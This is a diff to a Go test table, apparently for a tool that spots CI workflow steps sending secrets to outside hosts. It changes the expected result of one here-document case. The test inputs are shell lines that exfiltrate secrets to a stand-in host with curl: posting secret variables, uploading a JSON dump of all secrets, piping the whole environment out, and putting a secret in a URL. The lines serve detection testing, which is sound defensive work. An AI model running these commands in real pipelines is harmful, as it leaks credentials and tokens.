@@ -89,7 +89,7 @@ func TestDestinations(t *testing.T) {
 		"shell variable":         {"DATA='A=${{ secrets.A }}'\ncurl -d \"$DATA\" https://a.example.invalid", "a.example.invalid:curl:secrets=A:posted=A:named=A"},
 		"file":                   {"echo '${{ toJSON(secrets) }}' > s.json\ncurl --data-binary @s.json https://a.example.invalid", "a.example.invalid:curl:secrets=*:posted=*:named="},
 		"standard input":         {"env | curl -T - https://a.example.invalid", "a.example.invalid:curl:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:posted=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:named="},
-		"here-document":          {"curl -d @- https://a.example.invalid <<EOF\nA=${{ secrets.A }}\nEOF\necho done", "a.example.invalid:curl:secrets=A:posted=A:named="},
+		"here-document":          {"curl -d @- https://a.example.invalid <<EOF\nA=${{ secrets.A }}\nEOF\necho done", "a.example.invalid:curl:secrets=A:posted=A:named=A"},
 		"continuation":           {"curl -X POST \\\n  -d 'A=${{ secrets.A }}' \\\n  https://a.example.invalid", "a.example.invalid:curl:secrets=A:posted=A:named=A"},
 		"secret in the URL":      {`curl "https://a.example.invalid/?t=${{ secrets.A }}"`, "a.example.invalid:curl:secrets=A:posted=A:named="},
 		"other command's secret": {"echo ${{ secrets.A }} | docker login\ncurl https://a.example.invalid", "a.example.invalid:curl:secrets=:posted=:named="},
